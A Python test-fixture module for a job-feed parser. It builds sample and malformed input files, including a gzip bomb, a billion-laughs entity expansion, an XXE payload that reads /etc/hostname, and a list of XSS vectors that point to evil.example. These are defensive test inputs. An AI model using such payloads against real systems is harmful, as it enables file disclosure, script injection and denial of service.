"""Files of postings, all invented: small ones beside this, big and hostile ones made here."""

import gzip
import json
from pathlib import Path

FOLDER = Path(__file__).parent
SAMPLES = tuple(sorted(one.name for one in FOLDER.iterdir() if one.suffix not in {".py", ".pyc"}))
"""Names of the small files: one of each kind and more."""

COUNTS = {
    "ashby.json": 1,
    "feed.json": 2,
    "greenhouse.json": 1,
    "job_board.xml": 1,
    "job_namespace.rss": 1,
    "jobs.atom": 2,
    "jobs.rdf": 1,
    "lever.json": 1,
    "microdata.html": 1,
    "own.json": 2,
    "own.toml": 1,
    "page.html": 1,
    "posting.jsonld": 1,
    "rss091.rss": 1,
    "smartrecruiters.json": 1,
    "table.csv": 2,
    "usajobs.json": 2,
    "workable.json": 1,
    "wp_job_manager.rss": 2,
}
"""Postings in each of the small files."""


def sample(name: str) -> bytes:
    """Return the bytes of a small file."""
    return (FOLDER / name).read_bytes()


def _item(number: int, description: str) -> str:
    return (
        f"<item><title>Coder {number}</title><link>https://big.example.org/{number}</link>"
        f'<guid isPermaLink="false">big-{number}</guid>'
        f"<pubDate>Mon, 16 Nov 2026 09:00:00 GMT</pubDate>"
        f"<description><![CDATA[{description}]]></description></item>"
    )


def _rss(items: str) -> bytes:
    head = '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
    return f"{head}<title>Big</title><link>https://big.example.org/</link>{items}</channel></rss>".encode()


def big_feed(megabytes: float) -> bytes:
    """Return a valid RSS feed of about so many megabytes, with 4,000 characters an entry."""
    text = "<p>Invented: codes charts of several clinics.</p>" * 80
    count = max(1, int(megabytes * 1_000_000 / (len(text) + 250)))
    return _rss("".join(_item(number, text) for number in range(count)))


def gzip_bomb(megabytes: int = 200) -> bytes:
    """Return gzip of some kilobytes that unpacks to so many megabytes."""
    return gzip.compress(b" " * (megabytes * 1_000_000))


def billion_laughs() -> bytes:
    """Return a feed with entities that would grow to gigabytes."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "lol">{entities}]>'
        "<rss><channel><title>&a9;</title></channel></rss>"
    ).encode()


def external_entity() -> bytes:
    """Return a feed that asks for a file of the machine."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        b"<rss><channel><item><title>&x;</title></item></channel></rss>"
    )


SCRIPTS = (
    "<script>steal()</script>",
    "<img src=x onerror=steal()>",
    '<a href="javascript:steal()">apply</a>',
    '<a href=" JaVaScRiPt&colon;steal()">apply</a>',
    '<p onclick="steal()" style="position:fixed" class=x>text</p>',
    "<iframe src='https://evil.example'></iframe>",
    "<svg><script>steal()</script></svg>",
    "<form action='https://evil.example'><input name=a><button>go</button></form>",
    "<style>@import 'https://evil.example'</style>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=steal()></style></mglyph></math>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<<script>script>steal()<</script>/script>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>apply</a>",
)
"""Descriptions that would do something if they were shown as they are."""


def script_laden() -> bytes:
    """Return a feed whose titles, links and descriptions hold scripts."""
    items = "".join(_item(number, text) for number, text in enumerate(SCRIPTS))
    bad = (
        "<item><title>Coder &lt;script&gt;steal()&lt;/script&gt;</title>"
        "<link>javascript:steal()</link><guid>bad</guid></item>"
    )
    return _rss(items + bad)


def truncated() -> bytes:
    """Return a feed whose end did not arrive."""
    return big_feed(0.1)[:-500]


def unclosed() -> bytes:
    """Return a feed that is complete but not well-formed: an open tag, ``&`` alone."""
    items = (
        "<item><title>Coder &amp; Auditor</title><guid>u-1</guid>"
        "<description>R&D <b>open</description></item>"
        "<item><title>Second</title><guid>u-2</guid></item>"
    )
    return _rss(items)


def malformed() -> dict[str, bytes]:
    """Return files, by name, that cannot be read as they are, each with a clear reason."""
    return {
        "bomb.gz": gzip_bomb(),
        "cut.gz": gzip.compress(sample("usajobs.json"))[:-300],
        "damaged.gz": b"\x1f\x8b\x08\x00damaged",
        "twice.gz": gzip.compress(gzip.compress(b"<rss></rss>")),
        "entities.rss": billion_laughs(),
        "external.rss": external_entity(),
        "truncated.rss": truncated(),
        "deep.json": b"[" * 100_000,
        "many.json": b'{"jobs": [' + b"{}," * 2_100_000 + b"{}]}",
        "comma.json": b'{"title": "Coder", "employer": "Example",}',
        "nan.json": b'{"title": "Coder", "employer": "Example", "pay_low": NaN}',
        "other.json": b'{"answer": 42}',
        "notitle.json": b'{"jobs": [{"salary": 1}]}',
        "comment.html": b'<html><script type="application/ld+json">{"@type": "JobPosting", // x\n}'
        b"</script></html>",
        "nojob.html": b"<!doctype html><html><body><p>Welcome</p></body></html>",
        "other.xml": b'<?xml version="1.0"?><catalog><book/></catalog>',
        "notitle.csv": b"Amount,Place\n1,2\n3,4\n",
        "unknown.toml": b'title = "Coder"\nemployr = "Example"\n',
        "broken.toml": b'title = "Coder\n',
        "empty.txt": b"",
        "prose.txt": b"Dear coder\nwe have a job\n",
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(range(32)) * 20,
        "book.xlsx": b"PK\x03\x04" + b"\x00" * 50,
        "page.pdf": b"%PDF-1.7\n",
        "large.csv": b"title\n" + b"x" * 25_200_000,
    }


def many_postings(count: int) -> bytes:
    """Return a JSON export of so many jobs."""
    return json.dumps({"jobs": [{"id": n, "title": f"Coder {n}"} for n in range(count)]}).encode()
